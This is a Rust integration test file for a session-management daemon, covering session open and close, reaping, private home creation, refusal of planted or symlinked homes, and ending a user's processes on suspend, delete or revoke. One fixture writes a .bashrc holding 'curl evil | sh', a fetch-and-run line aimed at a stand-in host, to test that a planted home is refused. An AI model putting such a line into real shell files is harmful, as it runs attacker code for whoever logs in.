//! Sessions and processes: open/close, reaping by pid + start time, the
//! home made at the first session, and the /proc sweep that suspend,
//! delete and `revoke --end-sessions` run.

use roster_tests::{TestBus, TestDaemon};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const PW: &str = "correct horse battery";

fn q(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_default()
}

/// A process running as `uid` (what a login of that user leaves behind).
fn run_as(uid: u32, script: &str) -> Child {
    Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={uid}"),
            "--clear-groups",
            "--",
            "sh",
            "-c",
            script,
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("setpriv: {e}"))
}

fn start_time(pid: u32) -> u64 {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    roster_client::stat_start_time(&stat).unwrap_or(0)
}

/// Live (non-zombie) pids whose real uid is `uid`.
fn pids_of(uid: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let real = status
            .lines()
            .find(|l| l.starts_with("Uid:"))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|u| u.parse::<u32>().ok());
        let zombie = status
            .lines()
            .any(|l| l.starts_with("State:") && l.contains('Z'));
        if real == Some(uid) && !zombie {
            found.push(pid);
        }
    }
    found
}

fn wait_for(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(15);
    while !cond() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn open_session(d: &TestDaemon, user: &str, pid: u32, start: u64) -> roster_tests::Run {
    let request = serde_json::json!({"user": user, "service": "sshd", "tty": "pts/3",
        "remote_host": "198.51.100.7", "leader_pid": pid, "leader_start": start});
    d.probe("Pam.OpenSession", &[&request.to_string()]).run()
}

fn live_sessions(d: &TestDaemon, user: &str) -> Vec<serde_json::Value> {
    let out = d
        .probe("Sessions.List", &[&q(user), "false"])
        .run()
        .expect_ok();
    out.json()["ok"].as_array().cloned().unwrap_or_default()
}

#[test]
fn sessions_open_close_and_are_reaped_when_the_leader_is_gone() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    let uid = d.create_user("alice", "user", PW);
    let mut leader = run_as(uid, "sleep 300");
    let pid = leader.id();
    wait_for("the leader", || start_time(pid) > 0);
    let start = start_time(pid);

    // Someone else's start time for that pid is refused.
    let wrong = open_session(&d, "alice", pid, start + 1);
    assert_eq!(
        wrong.probe_error().as_deref(),
        Some("InvalidArgument"),
        "{}",
        wrong.stdout
    );

    open_session(&d, "alice", pid, start).expect_ok();
    let live = live_sessions(&d, "alice");
    assert_eq!(live.len(), 1);
    assert_eq!(live[0]["service"], "sshd");
    assert_eq!(live[0]["remote_host"], "198.51.100.7");
    assert_eq!(live[0]["leader_pid"], pid);
    // Last login is set.
    let shown = d
        .probe("Users.Show", &[&q("alice")])
        .run()
        .expect_ok()
        .json();
    assert_ne!(shown["ok"]["last_login"], 0);

    // The leader dies without closing: the next list reaps it.
    let _ = leader.kill();
    let _ = leader.wait();
    assert!(live_sessions(&d, "alice").is_empty());
    let all = d
        .probe("Sessions.List", &[&q("alice"), "true"])
        .run()
        .expect_ok()
        .json();
    assert_ne!(all["ok"][0]["ended"], 0);

    // A closed session ends too.
    let mut leader = run_as(uid, "sleep 300");
    let pid = leader.id();
    wait_for("the leader", || start_time(pid) > 0);
    let start = start_time(pid);
    open_session(&d, "alice", pid, start).expect_ok();
    d.probe(
        "Pam.CloseSession",
        &[&q("alice"), &pid.to_string(), &start.to_string()],
    )
    .run()
    .expect_ok();
    assert!(live_sessions(&d, "alice").is_empty());
    let _ = leader.kill();
    let _ = leader.wait();
}

#[test]
fn a_home_planted_by_another_uid_is_refused_and_the_session_still_opens() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    let uid = d.create_user("alice", "user", PW);
    let bob = d.create_user("bob", "user", PW);
    let base = d.home_base();
    std::fs::create_dir_all(&base).unwrap_or_else(|e| panic!("{e}"));
    // Someone else (uid 4242) made alice's home before her first login,
    // with a .bashrc of their choosing.
    let planted = base.join("alice");
    std::fs::create_dir(&planted).unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(planted.join(".bashrc"), "curl evil | sh\n").unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::chown(&planted, Some(roster_tests::STRANGER_UID), Some(4242))
        .unwrap_or_else(|e| panic!("{e}"));
    // And bob's is a link to somewhere else.
    let elsewhere = d.dir().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap_or_else(|e| panic!("{e}"));
    std::os::unix::fs::symlink(&elsewhere, base.join("bob")).unwrap_or_else(|e| panic!("{e}"));

    for (user, uid, why) in [
        ("alice", uid, "owned by uid 4242".to_owned()),
        ("bob", bob, "symbolic link".to_owned()),
    ] {
        let mut leader = run_as(uid, "sleep 300");
        let pid = leader.id();
        wait_for("the leader", || start_time(pid) > 0);
        let opened = open_session(&d, user, pid, start_time(pid)).expect_ok();
        let reply = &opened.json()["ok"];
        assert_eq!(reply["home_created"], false, "{reply}");
        let message = reply["message"].as_str().unwrap_or("");
        assert!(message.contains("not yours"), "{message}");
        assert!(message.contains(&why), "{message}");
        assert_eq!(live_sessions(&d, user).len(), 1, "the session is open");
        let audit = d.audit_log();
        let line = audit
            .lines()
            .rfind(|l| {
                l.contains("action=pam.open_session") && l.contains(&format!("target={user}"))
            })
            .unwrap_or_else(|| panic!("no audit line for {user}:\n{audit}"));
        assert!(line.contains("home=refused"), "{line}");
        assert!(line.contains(&why), "{line}");
        assert!(
            d.stderr_log().contains("refusing the home"),
            "{}",
            d.stderr_log()
        );
        let _ = leader.kill();
        let _ = leader.wait();
    }
    // Nothing adopted: the planted home keeps its owner and its files, and
    // nothing was written through the link.
    let meta = std::fs::metadata(&planted).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(meta.uid(), roster_tests::STRANGER_UID);
    assert_eq!(
        std::fs::read_to_string(planted.join(".bashrc")).unwrap_or_default(),
        "curl evil | sh\n"
    );
    assert_eq!(
        std::fs::read_dir(&elsewhere).map(|e| e.count()).ok(),
        Some(0)
    );
}

#[test]
fn a_start_time_past_i64_max_is_refused_and_nothing_is_stored() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    d.create_user("alice", "user", PW);
    // A pid no process has (above any pid_max), so rosterd can't compare
    // the start time with the process's: core must refuse it.
    let no_such_pid = 4_000_000_000u32;
    let out = open_session(&d, "alice", no_such_pid, u64::MAX);
    assert_eq!(
        out.probe_error().as_deref(),
        Some("InvalidArgument"),
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("start time"), "{}", out.stdout);
    assert_eq!(d.sqlite("SELECT count(*) FROM sessions").trim(), "0");
    let out = d
        .probe(
            "Pam.CloseSession",
            &[&q("alice"), &no_such_pid.to_string(), &u64::MAX.to_string()],
        )
        .run();
    assert_eq!(
        out.probe_error().as_deref(),
        Some("InvalidArgument"),
        "{}",
        out.stdout
    );
    // The largest that fits is taken, and stored as it came.
    open_session(&d, "alice", no_such_pid, i64::MAX as u64).expect_ok();
    assert_eq!(
        d.sqlite("SELECT leader_start FROM sessions").trim(),
        i64::MAX.to_string()
    );
}

#[test]
fn the_first_session_creates_a_private_home_from_skel() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    let uid = d.create_user("alice", "user", PW);
    let home = d.home_base().join("alice");
    assert!(!home.exists());
    let mut leader = run_as(uid, "sleep 300");
    let pid = leader.id();
    wait_for("the leader", || start_time(pid) > 0);
    let opened = open_session(&d, "alice", pid, start_time(pid)).expect_ok();
    assert_eq!(opened.json()["ok"]["home_created"], true);
    let meta = std::fs::metadata(&home).unwrap_or_else(|e| panic!("{}: {e}", home.display()));
    assert_eq!(meta.permissions().mode() & 0o777, 0o700);
    assert_eq!((meta.uid(), meta.gid()), (uid, uid));
    if std::path::Path::new("/etc/skel/.bashrc").exists() {
        let rc = std::fs::metadata(home.join(".bashrc")).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(rc.uid(), uid);
    }
    // The next session finds it there.
    let again = open_session(&d, "alice", pid, start_time(pid)).expect_ok();
    assert_eq!(again.json()["ok"]["home_created"], false);
    let _ = leader.kill();
    let _ = leader.wait();
}

#[test]
fn suspend_ends_every_process_of_the_user_and_only_theirs() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    let alice = d.create_user("alice", "user", PW);
    let bob = d.create_user("bob", "user", PW);
    // A session leader, a setsid child, a nohup'ed one, and one that
    // ignores SIGTERM (only SIGKILL after end_grace ends it).
    let mut leader = run_as(
        alice,
        "setsid sleep 300 & nohup sleep 300 >/dev/null 2>&1 & sh -c 'trap \"\" TERM; sleep 300; sleep 300' & sleep 300",
    );
    let mut unrelated = run_as(bob, "sleep 300");
    let pid = leader.id();
    wait_for("alice's processes", || pids_of(alice).len() >= 5);
    open_session(&d, "alice", pid, start_time(pid)).expect_ok();
    let before = pids_of(alice).len();

    let started = Instant::now();
    let ended = d
        .probe("Users.Suspend", &[&q("alice"), "false"])
        .run()
        .expect_ok()
        .json();
    eprintln!("suspend took {:?}: {ended}", started.elapsed());
    assert_eq!(ended["ok"]["sessions"], 1);
    assert!(
        ended["ok"]["processes"].as_u64().unwrap_or(0) >= before as u64,
        "{ended} vs {before}"
    );
    let _ = leader.wait();
    assert!(pids_of(alice).is_empty(), "left: {:?}", pids_of(alice));
    assert!(live_sessions(&d, "alice").is_empty());
    // Bob's process was never touched.
    assert!(matches!(unrelated.try_wait(), Ok(None)));
    assert!(d.audit_log().contains("action=users.suspend target=alice"));
    let _ = unrelated.kill();
    let _ = unrelated.wait();
}

#[test]
fn keep_sessions_leaves_processes_and_revoke_can_end_them() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    d.create_user("boss", "admin", PW);
    let alice = d.create_user("alice", "user", PW);
    d.grant("alice", "admin", "");
    let mut p = run_as(alice, "sleep 300");
    wait_for("alice's process", || !pids_of(alice).is_empty());
    let kept = d
        .probe("Users.Suspend", &[&q("alice"), "true"])
        .run()
        .expect_ok()
        .json();
    assert_eq!(kept["ok"]["processes"], 0);
    assert!(matches!(p.try_wait(), Ok(None)));
    d.probe("Users.Enable", &[&q("alice")]).run().expect_ok();

    let revoked = d
        .probe("Grants.Revoke", &[&q("alice"), &q("admin"), &q(""), "true"])
        .run()
        .expect_ok()
        .json();
    assert_eq!(revoked["ok"]["admin_removed"], true);
    assert_eq!(revoked["ok"]["remaining"], "write");
    assert!(revoked["ok"]["ended"]["processes"].as_u64().unwrap_or(0) >= 1);
    let _ = p.wait();
    assert!(pids_of(alice).is_empty());
}

#[test]
fn delete_ends_processes_too() {
    let bus = TestBus::start();
    let d = TestDaemon::start(&bus);
    let alice = d.create_user("alice", "user", PW);
    let mut p = run_as(alice, "sleep 300");
    wait_for("alice's process", || !pids_of(alice).is_empty());
    let ended = d
        .probe("Users.Delete", &[&q("alice"), "false"])
        .run()
        .expect_ok()
        .json();
    assert!(
        ended["ok"]["processes"].as_u64().unwrap_or(0) >= 1,
        "{ended}"
    );
    let _ = p.wait();
    assert!(pids_of(alice).is_empty());
}
